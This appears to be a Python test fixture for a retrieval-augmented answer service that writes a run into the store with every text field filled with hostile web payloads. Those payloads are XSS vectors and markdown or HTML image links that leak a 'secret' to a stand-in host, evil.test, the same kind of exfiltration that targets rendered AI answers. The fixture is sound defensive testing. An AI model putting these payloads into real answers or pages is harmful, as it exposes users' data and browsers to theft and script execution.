"""A run in which every text is an attack, written past the guards straight into the store."""

from datetime import UTC, datetime, timedelta
from uuid import uuid4

from app.records import AnswerCard, RunEvent, SpanRecord
from app.services.store.store import Store

ATTACK = (
    "<img src=x onerror=window.stolen=1><script>window.stolen=2</script> ![leak](http://evil.test/a.png?d=secret) "
    "![by reference][pic] [run](javascript:window.stolen=3) [go](https://elsewhere.test/x?d=secret) "
    "<input type=image src=http://evil.test/d.png><video poster=http://evil.test/e.png src=http://evil.test/e.mp4></video>"
    "<audio src=http://evil.test/f.mp3 autoplay></audio> "
    "<svg onload=window.stolen=4> ${window.stolen=5} {{constructor.constructor('window.stolen=6')()}} "
    "<div style='background:url(http://evil.test/c.png)'>end</div> \"'><b x=`\ud800\n\n[pic]: http://evil.test/b.png"
)
SHORT = "<img src=x onerror=window.stolen=7>\"'`${window.stolen=8}"


def hostile_card(run_id: str, conversation_id: str) -> AnswerCard:
    return AnswerCard.model_validate(
        {
            "requestId": run_id,
            "conversationId": conversation_id,
            "mode": "rag",
            "status": "completed",
            "answer": ATTACK,
            "citations": [
                {
                    "number": 1,
                    "chunkId": SHORT,
                    "documentId": SHORT,
                    "title": SHORT,
                    "heading": ATTACK,
                    "quote": ATTACK,
                    "start": 0,
                    "end": 5,
                    "score": 0.9,
                    "collection": SHORT,
                }
            ],
            "sentences": [
                {"text": ATTACK, "start": 0, "end": len(ATTACK), "score": 0.1, "supported": False, "citations": [1]}
            ],
            "tools": [{"callId": "1", "name": SHORT, "arguments": {SHORT: ATTACK}, "status": "ok", "summary": ATTACK}],
            "promptVersion": SHORT,
            "graphFingerprint": SHORT,
            "model": SHORT,
            "modelVersion": SHORT,
            "provider": SHORT,
            "indexVersion": SHORT,
            "embedder": SHORT,
            "validation": SHORT,
            "createdAt": datetime.now(UTC),
        }
    )


async def write_hostile_run(store: Store, tenant: str, user: str) -> tuple[str, str]:
    """Gives the ids of its conversation and of itself."""
    now, run_id = datetime.now(UTC), uuid4().hex
    conversation = (await store.conversations.create(tenant, user, SHORT)).conversation_id
    await store.runs.start(
        run_id=run_id,
        tenant_id=tenant,
        user_id=user,
        conversation_id=conversation,
        mode="rag",
        message=ATTACK,
        feature=SHORT,
        key_id="",
        created_at=now,
    )
    passage = {"chunkId": "c", "documentId": SHORT, "title": SHORT, "heading": SHORT, "text": ATTACK, "collection": "x"}
    span = SpanRecord(
        uuid4().hex[:16], run_id, None, SHORT, "model", now, now + timedelta(seconds=1), "ok", {SHORT: ATTACK}
    )
    await store.runs.finish(
        run_id,
        tenant,
        hostile_card(run_id, conversation),
        events=[RunEvent(1, "retrieval.completed", {"passages": [passage], "indexVersion": SHORT})],
        spans=[span],
        message_appends=[],
    )
    await store.feedback.put(run_id, tenant, user, "down", SHORT)
    return conversation, run_id
